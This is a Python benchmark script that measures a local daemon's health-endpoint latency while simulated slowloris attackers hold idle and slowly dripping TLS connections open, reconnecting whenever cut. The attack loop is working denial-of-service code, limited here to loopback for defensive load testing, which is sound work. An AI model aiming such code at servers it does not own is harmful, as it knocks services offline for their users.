#!/usr/bin/env python3
"""slowloris.py: /health/live latency while hostile clients hold connections
open without finishing a request (issue 27, finding 5).

Two kinds of attacker, both from their own loopback address (--attack-from, so
a per-address connection limit does not also refuse the prober, as it would not
refuse a load balancer on another host):

    idle    TCP connections that never send a byte (not even a TLS hello)
    drip    TLS connections that send a request line, then one header byte
            every --drip-interval seconds, never ending the headers

Attackers reconnect as soon as the server drops them, so the pressure stays on
for the whole run. Meanwhile a prober from 127.0.0.1 opens a fresh TLS
connection for GET /health/live every --interval seconds (tls_flood.probe) and
reports p50/p99/max and the probes that got no answer within 10 s. At the end
it prints how many attack connections the server cut during the run.

    bench/slowloris.py --port 8443 [--idle 1100] [--drip 100] [--duration 30]

Start the daemon first (the tiny test model is enough). Standard library only.
"""
import argparse
import os
import socket
import ssl
import statistics
import sys
import threading
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from tls_flood import pct, probe  # noqa: E402  (bench/ is not a package)


def attack(a, stop, stats):
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE

    def opened(kind):
        try:
            raw = socket.create_connection(("127.0.0.1", a.port), timeout=5, source_address=(a.attack_from, 0))
            if kind == "drip":
                s = ctx.wrap_socket(raw, server_hostname="localhost")
                s.sendall(b"GET /health/live HTTP/1.1\r\nHost: localhost\r\n")
            else:
                s = raw
            s.settimeout(0.001)
            return s
        except (OSError, ssl.SSLError):
            stats["refused"] += 1
            return None

    conns = [["idle", None] for _ in range(a.idle)] + [["drip", None] for _ in range(a.drip)]
    next_drip = time.time()
    while not stop.is_set():
        drip_now = time.time() >= next_drip
        if drip_now:
            next_drip = time.time() + a.drip_interval
        for c in conns:
            if stop.is_set():
                break
            if c[1] is None:
                c[1] = opened(c[0])
                if c[1] is not None:
                    stats["opened"] += 1
                continue
            try:
                if c[0] == "drip" and drip_now:
                    c[1].sendall(b"X")
                # a closed connection reads as b"" (or fails); one still held times out
                if c[1].recv(1) == b"":
                    raise ConnectionResetError
            except (socket.timeout, ssl.SSLWantReadError):
                continue
            except (OSError, ssl.SSLError):
                c[1].close()
                c[1] = None
                stats["cut"] += 1
        time.sleep(0.05)
    for c in conns:
        if c[1] is not None:
            c[1].close()


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--idle", type=int, default=1100)
    ap.add_argument("--drip", type=int, default=100)
    ap.add_argument("--drip-interval", type=float, default=3.0)
    ap.add_argument("--attack-from", default="127.0.0.2")
    ap.add_argument("--probes", type=int, default=200)
    ap.add_argument("--interval", type=float, default=0.1)
    ap.add_argument("--duration", type=float, default=30.0, help="stop probing after this many seconds")
    ap.add_argument("--warmup", type=float, default=5.0, help="seconds of attack before the first probe")
    a = ap.parse_args()
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    stop = threading.Event()
    stats = {"opened": 0, "refused": 0, "cut": 0}
    t = threading.Thread(target=attack, args=(a, stop, stats), daemon=True)
    if a.idle or a.drip:
        t.start()
        time.sleep(a.warmup)
    lat, errors = [], 0
    t_end = time.time() + a.duration
    for _ in range(a.probes):
        if time.time() > t_end:
            break
        try:
            lat.append(probe(a.port, ctx))
        except (OSError, RuntimeError, ssl.SSLError) as e:
            errors += 1
            if errors <= 3:
                print("probe failed: %s" % e)
        time.sleep(a.interval)
    stop.set()
    if t.is_alive():
        t.join(10)
    if not lat:
        print("no probe succeeded (%d errors)" % errors)
        return 1
    print("idle %d, drip %d every %.0f s: probes %d, errors %d: /health/live p50 %.1f ms, p99 %.1f ms, max %.1f ms, "
          "mean %.1f ms; attack connections opened %d, cut by the server %d, refused %d"
          % (a.idle, a.drip, a.drip_interval, len(lat), errors, pct(lat, 50), pct(lat, 99), max(lat),
             statistics.mean(lat), stats["opened"], stats["cut"], stats["refused"]))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
